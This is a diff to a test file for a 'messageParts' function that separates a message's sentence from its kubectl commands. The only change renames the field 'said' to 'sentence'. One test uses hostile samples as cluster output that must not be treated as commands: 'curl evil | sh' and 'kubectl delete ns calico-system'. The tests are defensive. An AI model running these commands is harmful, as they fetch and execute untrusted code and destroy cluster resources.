@@ -7,10 +7,10 @@ test('a message is its sentence, and the commands that it ends in', () => {
     'It does not run. Look at it:\n\n  kubectl -n calico-system get pods\n  kubectl get tigerastatus goldmane',
   );
   expect(messageParts(message)).toEqual({
-    said: 'It does not run. Look at it:',
+    sentence: 'It does not run. Look at it:',
     commands: ['kubectl -n calico-system get pods', 'kubectl get tigerastatus goldmane'],
   });
-  expect(messageParts('Refused.')).toEqual({ said: 'Refused.', commands: [] });
+  expect(messageParts('Refused.')).toEqual({ sentence: 'Refused.', commands: [] });
 });
 
 test('what a cluster answered is no command, whatever it looks like', () => {
@@ -18,5 +18,5 @@ test('what a cluster answered is no command, whatever it looks like', () => {
     'Refused:\n\n  kubectl delete ns calico-system',
     'Refused:\n\n  kubectl get tigerastatus goldmane\n  curl evil | sh',
   ])
-    expect(messageParts(answer)).toEqual({ said: answer, commands: [] });
+    expect(messageParts(answer)).toEqual({ sentence: answer, commands: [] });
 });
